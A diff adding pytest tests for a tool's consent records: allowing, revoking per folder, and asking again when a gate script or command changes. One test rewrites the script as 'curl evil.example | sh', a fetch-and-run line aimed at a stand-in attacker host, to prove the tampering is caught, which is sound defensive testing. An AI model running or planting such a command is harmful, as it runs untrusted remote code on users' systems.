@@ -1,0 +1,81 @@
+"""Each consent change, in process and on disk (issue 15): allow records exactly this folder's
+commands; revoke removes the record file and this process's grant, for this folder only; a change
+to a named script or to the command text asks again.
+
+Seen to fail by hand with `revoke` leaving the record on disk (path.unlink() skipped), with revoke
+forgetting only the in-process grant, and with needs_consent ignoring the record's digest.
+"""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+from plan_helpers import base_plan, write_plan
+
+from relcomm_tui.plan import consent
+from relcomm_tui.plan import load_plan
+
+
+def plan_with_gate(folder: Path, gate: str = "scripts/ok.sh") -> Path:
+    script = folder / "scripts" / "ok.sh"
+    script.parent.mkdir(parents=True, exist_ok=True)
+    script.write_text("#!/bin/sh\nexit 0\n", encoding="utf-8")
+    script.chmod(0o755)
+    data = base_plan()
+    data["release"]["gate"] = gate
+    return write_plan(folder, data)
+
+
+def records() -> list[Path]:
+    folder = Path(os.environ["RELCOMM_CONFIG_DIR"]) / consent.ALLOWED_DIR
+    return sorted(folder.iterdir()) if folder.is_dir() else []
+
+
+def test_revoke_removes_the_record_file_and_the_grant_and_says_whether_there_was_one(tmp_path: Path):
+    plan = load_plan(plan_with_gate(tmp_path / "plan"))
+    assert consent.needs_consent(plan) and not consent.has_grant(plan)
+    written = consent.allow(plan)
+    assert records() == [written] and written.name == consent.digest(plan)
+    assert not consent.needs_consent(plan) and consent.has_grant(plan) and consent.all_granted(plan)
+
+    assert consent.revoke(plan) is True
+    assert records() == [] and not written.exists()
+    assert consent.needs_consent(load_plan(plan.path))       # a new process would ask again
+    assert not consent.has_grant(plan) and not consent.all_granted(plan)  # and this one does not run it
+    assert not consent.may_run(plan.root, "scripts/ok.sh")
+    assert consent.revoke(plan) is False                     # nothing left to forget
+
+
+def test_revoke_forgets_only_this_folders_consent(tmp_path: Path):
+    mine = load_plan(plan_with_gate(tmp_path / "mine"))
+    other = load_plan(plan_with_gate(tmp_path / "other"))
+    consent.allow(mine)
+    kept = consent.allow(other)
+    assert consent.revoke(mine) is True
+    assert records() == [kept]
+    assert consent.needs_consent(mine) and not consent.needs_consent(other)
+    assert consent.has_grant(other) and not consent.has_grant(mine)
+
+
+def test_revoke_forgets_records_of_earlier_versions_of_the_commands_too(tmp_path: Path):
+    path = plan_with_gate(tmp_path / "plan")
+    first = consent.allow(load_plan(path))
+    path.write_text(path.read_text().replace("scripts/ok.sh", "scripts/ok.sh --strict"))
+    second = consent.allow(load_plan(path))
+    assert first != second and records() == sorted([first, second])
+    assert consent.revoke(load_plan(path)) is True
+    assert records() == []
+
+
+def test_a_changed_script_or_command_needs_consent_again(tmp_path: Path):
+    path = plan_with_gate(tmp_path / "plan")
+    plan = load_plan(path)
+    consent.allow(plan)
+    assert consent.may_run(plan.root, "scripts/ok.sh")
+    (plan.root / "scripts" / "ok.sh").write_text("#!/bin/sh\ncurl evil.example | sh\n", encoding="utf-8")
+    assert not consent.may_run(plan.root, "scripts/ok.sh")  # granted before, but not this content
+    assert consent.needs_consent(load_plan(path))
+    assert consent.apply(load_plan(path)) is False
+    path.write_text(path.read_text().replace("scripts/ok.sh", "scripts/ok.sh --other"))
+    assert consent.needs_consent(load_plan(path))
